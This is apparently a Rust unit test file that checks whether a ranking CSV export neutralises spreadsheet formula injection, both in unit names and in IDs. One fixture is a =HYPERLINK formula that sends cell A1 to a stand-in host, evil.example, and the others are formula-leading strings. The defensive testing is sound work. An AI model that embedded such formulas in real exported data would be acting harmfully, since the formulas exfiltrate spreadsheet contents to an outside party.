//! CSV formula injection (issue 12, "Why" 7): a unit name such as `=HYPERLINK(…)` went
//! into the ranking CSV as is, and Excel ran it. Text cells that begin with `=`, `+`,
//! `-`, `@`, a tab or a carriage return are neutralised the way OWASP recommends (a
//! leading `'`, the field quoted); numbers, negative ones included, stay numbers.

use std::str::FromStr;

use dti_score::aggregate::PreviousResults;
use dti_score::table::{neutralise, Cell, Table};
use rust_decimal::Decimal;

#[test]
fn text_cells_that_start_a_formula_are_neutralised_and_numbers_are_not() {
    let table = Table {
        name: "ranking".into(),
        header: vec![
            "unit_id".into(),
            "unit_name".into(),
            "total".into(),
            "change".into(),
        ],
        keys: Vec::new(),
        rows: vec![
            vec![
                Cell::text("xa-a"),
                Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xã Tân Hòa\")"),
                Cell::number(Some(Decimal::from_str("76.25").unwrap())),
                Cell::number(Some(Decimal::from_str("-3.5").unwrap())),
            ],
            vec![
                Cell::text("xa-b"),
                Cell::text("+1+2"),
                Cell::Integer(3),
                Cell::Empty,
            ],
            vec![
                Cell::text("xa-c"),
                Cell::text("-2+3"),
                Cell::Empty,
                Cell::Empty,
            ],
            vec![
                Cell::text("xa-d"),
                Cell::text("@SUM(A1:A9)"),
                Cell::Empty,
                Cell::Empty,
            ],
            vec![
                Cell::text("xa-e"),
                Cell::text("\t=1"),
                Cell::Empty,
                Cell::Empty,
            ],
            vec![
                Cell::text("xa-f"),
                Cell::text("\r=1"),
                Cell::Empty,
                Cell::Empty,
            ],
            vec![
                Cell::text("xa-g"),
                Cell::text("Xã A = B, 50%"),
                Cell::Empty,
                Cell::Empty,
            ],
        ],
    };
    assert_eq!(
        table.to_csv(),
        "\u{feff}unit_id,unit_name,total,change\r\n\
         xa-a,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xã Tân Hòa\"\")\",76.25,-3.5\r\n\
         xa-b,\"'+1+2\",3,\r\n\
         xa-c,\"'-2+3\",,\r\n\
         xa-d,\"'@SUM(A1:A9)\",,\r\n\
         xa-e,\"'\t=1\",,\r\n\
         xa-f,\"'\r=1\",,\r\n\
         xa-g,\"Xã A = B, 50%\",,\r\n"
    );
    // The CLI's tab-separated printout and the XLSX (typed cells) keep the text as is.
    assert_eq!(
        table.rows[0][1].to_csv_text(),
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xã Tân Hòa\")"
    );
    assert_eq!(neutralise("-"), "'-");
    assert_eq!(neutralise(""), "");
    assert_eq!(neutralise("'=already"), "'=already");
}

#[test]
fn a_neutralised_unit_id_reads_back_as_written() {
    let table = Table {
        name: "ranking".into(),
        header: vec!["unit_id".into(), "total".into(), "rank".into()],
        keys: Vec::new(),
        rows: vec![vec![
            Cell::text("-xa-a"),
            Cell::number(Some(Decimal::from_str("-0.5").unwrap())),
            Cell::Integer(1),
        ]],
    };
    let csv = table.to_csv();
    assert_eq!(csv, "\u{feff}unit_id,total,rank\r\n\"'-xa-a\",-0.5,1\r\n");
    let previous = PreviousResults::from_csv(&csv).unwrap();
    let ids: Vec<&str> = previous.units.keys().map(String::as_str).collect();
    assert_eq!(ids, ["-xa-a"]);
}
